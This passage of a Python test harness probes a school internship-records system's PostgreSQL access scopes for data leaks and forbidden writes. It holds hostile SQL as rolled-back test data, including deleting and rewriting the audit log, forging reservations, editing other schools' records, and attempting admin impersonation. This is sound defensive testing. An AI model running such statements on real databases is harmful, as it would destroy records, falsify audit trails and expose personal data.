                "position_f": one("SELECT position_code FROM positions WHERE uscc = %s ORDER BY position_code LIMIT 1", firm),
                "loose": {code: self._loose_student(conn, code) for code in (school, other)},
                "ids": {r[0] for r in conn.execute("SELECT id_number FROM students UNION SELECT id_number FROM teachers")},
                "phones": {r[0] for r in conn.execute("SELECT guardian_phone FROM students WHERE length(guardian_phone) >= 8 UNION "
                                                      "SELECT phone FROM teachers WHERE length(phone) >= 8")},
                "guardians": {r[0] for r in conn.execute("SELECT guardian FROM students WHERE length(guardian) >= 2")},
            }

    @staticmethod
    def _loose_student(conn, school: str) -> str | None:
        """A student of ``school`` that the owner could delete (no record refers to them)."""
        import psycopg

        for (number,) in conn.execute("SELECT id_number FROM students WHERE school_code = %s ORDER BY id_number IN "
                                      "(SELECT id_number FROM internships), id_number LIMIT 200", (school,)).fetchall():
            try:
                with conn.transaction(force_rollback=True):
                    conn.execute("DELETE FROM students WHERE id_number = %s", (number,))
                return number
            except psycopg.Error:
                continue
        return None  # (every one is referred to: the owner's delete is refused too, and said so)

    def _revealable(self, actor: str) -> tuple[set, set, set]:
        """The ID numbers, phones and guardians the actor may see in full: the students and teachers
        in its reveal scope, as xiaoqi's declarations judge it (``access.stored_allowed``)."""
        import sqlalchemy as sa

        from xiaoqi.core.access import stored_allowed
        from xiaoqi.core.actors import Actor
        from xiaoqi.core.db import make_engine
        from xiaoqi.core.kinds import get_kinds

        role, _, code = actor.partition(":")
        who = Actor(role, code or None)
        ids, phones, guardians = set(), set(), set()
        engine = make_engine(self.url)
        try:
            with engine.connect() as conn:
                for name, personal in (("students", ("guardian_phone", "guardian")), ("teachers", ("phone",))):
                    kind = get_kinds()[name]
                    rows = {r.id: r for r in conn.execute(sa.text(f"SELECT id, id_number, {', '.join(personal)} FROM {name}"))}
                    if not kind.rights.allows("reveal", role):
                        continue
                    for i in stored_allowed(conn, kind, who, "reveal", list(rows)):
                        ids.add(rows[i].id_number)
                        phones.add(getattr(rows[i], personal[0]))
                        if name == "students":
                            guardians.add(rows[i].guardian)
        finally:
            engine.dispose()
        return ids, phones, guardians

    def connect(self, who: str):
        import psycopg

        login, _actor = self.logins[who]
        return psycopg.connect(self.url.replace("postgresql+psycopg", "postgresql").replace("//postgres@", f"//{login}:{self.PASSWORD}@"),
                               autocommit=True)

    def reads(self, who: str) -> list[tuple[str, int]]:
        """(what, how many seen that are not the login's) for its reads."""
        import psycopg

        _login, actor = self.logins[who]
        role, _, code = actor.partition(":")
        f = self.facts
        ids, phones, guardians = self._revealable(actor)
        out = []
        with self.connect(who) as conn:
            cur = conn.cursor()
            texts = []
            names = [r[0] for r in cur.execute("SELECT DISTINCT table_name FROM information_schema.tables WHERE table_schema IN "
                                               "('public', 'xiaoqi_masked')").fetchall()]
            for name in names:
                try:
                    texts.extend(str(v) for row in cur.execute(f'SELECT * FROM "{name}"').fetchall() for v in row if v is not None)
                except psycopg.Error:
                    pass
            text = "\n".join(texts)
            out.append(("full ID numbers outside the reveal scope, any table", sum(1 for i in f["ids"] - ids if i in text)))
            out.append(("full phones outside the reveal scope, any table", sum(1 for p in f["phones"] - phones if p and p in text)))
            shown = self._guardians_shown(cur)
            out.append(("guardians' names outside the reveal scope", len((f["guardians"] - guardians) & shown)))
            if role == "school":
                out.append(("other schools' students", cur.execute("SELECT count(*) FROM students WHERE school_code <> %s",
                                                                    (code,)).fetchone()[0]))
                out.append(("other schools' internships", cur.execute("SELECT count(*) FROM internships WHERE school_code <> %s",
                                                                       (code,)).fetchone()[0]))
            if role == "enterprise":
                out.append(("other enterprises' positions (and wages)", cur.execute(
                    "SELECT count(*) FROM positions WHERE uscc <> %s", (code,)).fetchone()[0]))
                out.append(("other enterprises' internships", cur.execute("SELECT count(*) FROM internships WHERE uscc <> %s",
                                                                           (code,)).fetchone()[0]))
                out.append(("students not interning there", cur.execute(
                    "SELECT count(*) FROM students s WHERE NOT EXISTS (SELECT 1 FROM internships i WHERE i.id_number = s.id_number "
                    "AND i.uscc = %s)", (code,)).fetchone()[0]))
            if role == "province":
                out.append(("other provinces' schools' students", cur.execute(
                    "SELECT count(*) FROM students s JOIN schools c ON c.school_code = s.school_code WHERE substr(c.region, 1, 2) <> %s",
                    (code,)).fetchone()[0]))
        return out

    @staticmethod
    def _guardians_shown(cur) -> set:
        """The guardians' names a login reads where a guardian stands: the students' column, the
        ``guardian`` of audit states and refused values, the 监护人 cells of import problems
        (names are short: a name elsewhere may be anyone's)."""
        found = {r[0] for r in cur.execute("SELECT guardian FROM students").fetchall()}

        def walk(value):
            if isinstance(value, dict):
                for name, v in value.items():
                    if name == "guardian" and isinstance(v, str):
                        found.add(v)
                    walk(v)
                if str(value.get("column", "")).strip().lower() in ("监护人", "guardian") and isinstance(value.get("value"), str):
                    found.add(value["value"])
            elif isinstance(value, list):
                for v in value:
                    walk(v)

        for row in cur.execute("SELECT before, after, note FROM audit_log WHERE kind IN ('students', 'import_batches')").fetchall():
            walk(list(row))
        for (problems,) in cur.execute("SELECT problems FROM import_batches").fetchall():
            walk(problems)
        return found

    def writes(self, who: str) -> list[tuple[str, int]]:
        """(what, rows it changed or 1 if the database accepted it) for its writes, rolled back."""
        import psycopg

        _login, actor = self.logins[who]
        role, _, code = actor.partition(":")
        f = self.facts
        other_school = f["school_b"] if code != f["school_b"] else f["school_a"]
        other_firm = f["firm_g"] if code != f["firm_g"] else f["firm_f"]
        # a student of a school other than the login's (school B's own student is school A's other)
        other_student = f["student_b"] if code != f["school_b"] else f["student_a"]
        attempts = [
            ("change another school's internship", "UPDATE internships SET monthly_pay = monthly_pay + 1 WHERE school_code = %s",
             (other_school,)),
            ("delete another school's internship", "DELETE FROM internships WHERE school_code = %s", (other_school,)),
            ("change another enterprise's positions", "UPDATE positions SET apprentice_quota = coalesce(apprentice_quota, 0) + 100 "
             "WHERE uscc = %s", (other_firm,)),
            ("delete another school's student", "DELETE FROM students WHERE id_number = %s", (f["loose"][other_school],)),
            ("change another school's students", "UPDATE students SET class_name = 'x' WHERE school_code = %s", (other_school,)),
            ("reserve quota places directly", "INSERT INTO quota_reservations (reservation_no, uscc, position_code, school_code, places, "
             "released_places, expires_on, status, reserved_on) VALUES ('HOSTILE-1', %s, %s, %s, 999, 0, '2027-01-01', '预留中', "
             "'2026-11-01')", (f["firm_f"], f["position_f"], f["school_a"])),
            ("raise a reservation's places", "UPDATE quota_reservations SET places = places + 500", ()),
            ("change the audit log", "UPDATE audit_log SET actor = 'admin'", ()),
            ("delete the audit log", "DELETE FROM audit_log", ()),
            ("put another school's student on a policy", "INSERT INTO insured (policy_no, id_number) VALUES (%s, %s)",
             (f["policy_a"], f["student_b"])),
            ("add an internship for another school's student", "INSERT INTO internships (id_number, uscc, school_code, start_on, end_on, "
             "kind, monthly_pay) VALUES (%s, %s, %s, '2026-12-01', '2027-01-31', '岗位实习', 3000)",
             (other_student, code if role == "enterprise" else f["firm_f"], code if role == "school" else f["school_a"])),
            ("register a school of its own", "INSERT INTO schools (school_code, name, level, region) VALUES "
             "('9999999999', '自封学院', '高职', '320100')", ()),
        ]
        out = []
        with self.owner() as owner, self.connect(who) as conn:
            for what, sql, params in attempts:
                # each attempt is first tried by the owner: what fails for the owner too (the audit
                # log's triggers) is marked so, a refusal of the login is then not only the schema's
                try:
                    with owner.transaction(force_rollback=True):
                        owner_rows = owner.execute(sql, params).rowcount
                except psycopg.Error:
                    owner_rows = 0
                try:
                    with conn.transaction(force_rollback=True):
                        cur = conn.execute(sql, params)
                        done = cur.rowcount if sql.lstrip().startswith(("UPDATE", "DELETE")) else 1
                except psycopg.Error:
                    done = 0
                out.append((what + ("" if owner_rows > 0 else " (the owner too is refused)"), max(done, 0)))
        # xiaoqi as the login: --as may only narrow
        login, _actor = self.logins[who]
        url = self.url.replace("//postgres@", f"//{login}:{self.PASSWORD}@")
        widened = xiaoqi(url, "--as", "admin", "records", "list", "students", timeout=120)
        out.append(("xiaoqi --as admin", 1 if widened.rc == 0 else 0))
        return out

    def drop(self) -> None:
        import psycopg

        with psycopg.connect(self.server, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)')
            for login, _actor in self.logins.values():
                conn.execute(f'DROP ROLE IF EXISTS "{login}"')


def scope_probe() -> None:
    print(f"load: {os.getloadavg()[0]:.1f} (1 min)")
    started = time.monotonic()
    probe = ScopeProbe()
    print(f"demo database and {len(probe.logins)} logins ready in {time.monotonic() - started:.0f} s")
    attempts = leaks = 0
    try:
        for who in probe.logins:
            for kind, rows in (("read", probe.reads(who)), ("write", probe.writes(who))):
                for what, n in rows:
                    attempts += 1
                    leaks += n > 0
                    print(f"  {who:<13} {kind:<5} {what:<55} {'LEAK ' + str(n) if n else 'held'}")
    finally:
        probe.drop()
    print(f"\nscopes: {attempts} attempts by {len(probe.logins)} logins, {leaks} leaks ({time.monotonic() - started:.0f} s)")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", default=None, help="run the cases whose name contains this")
    parser.add_argument("--no-pg", action="store_true", help="SQLite cases only")
    parser.add_argument("--scopes", action="store_true",
                        help="only the PostgreSQL logins' probe of other scopes' reads and writes (psycopg, bypassing xiaoqi)")
    args = parser.parse_args()
    if args.scopes:
        scope_probe()
        return
    counts = {v: 0 for v in VERDICTS}
    by_item: dict[str, dict[str, int]] = {}
    with tempfile.TemporaryDirectory(prefix="xiaoqi-hostile-") as tmp:
        place = Place(Path(tmp))
        pg = None
        selected = [c for c in CASES if args.only is None or args.only in c[1]]
        if not args.no_pg and any(c[2] == "pg" for c in selected):
            try:
                pg = PgPlace(place)
            except Exception as exc:  # no server: the PostgreSQL cases are left out and said so
                print(f"PostgreSQL cases skipped: {exc}", file=sys.stderr)
        for item, name, backend, fn in selected:
            if backend == "pg" and pg is None:
                continue
            started = time.monotonic()
            try:
                verdict = fn(pg if backend == "pg" else place)
            except Exception as exc:
                print(f"  {name}: the case itself failed: {type(exc).__name__}: {exc}", file=sys.stderr)
                continue
            if verdict is None:
                print(f"  {name}: skipped (needs root for a tmpfs mount)", file=sys.stderr)
                continue
            counts[verdict] += 1
            by_item.setdefault(item, {v: 0 for v in VERDICTS})[verdict] += 1
            print(f"{item:>2}  {name:<32} {verdict:<9} {time.monotonic() - started:6.1f} s", flush=True)
        if pg is not None:
            pg.drop()
    tried = sum(counts.values())
    print()
    print("item  tried  " + "  ".join(f"{v:>8}" for v in VERDICTS))
    for item in sorted(by_item):
        row = by_item[item]
        print(f"{item:>4}  {sum(row.values()):>5}  " + "  ".join(f"{row[v]:>8}" for v in VERDICTS))
    print(f" all  {tried:>5}  " + "  ".join(f"{counts[v]:>8}" for v in VERDICTS))


if __name__ == "__main__":
    main()
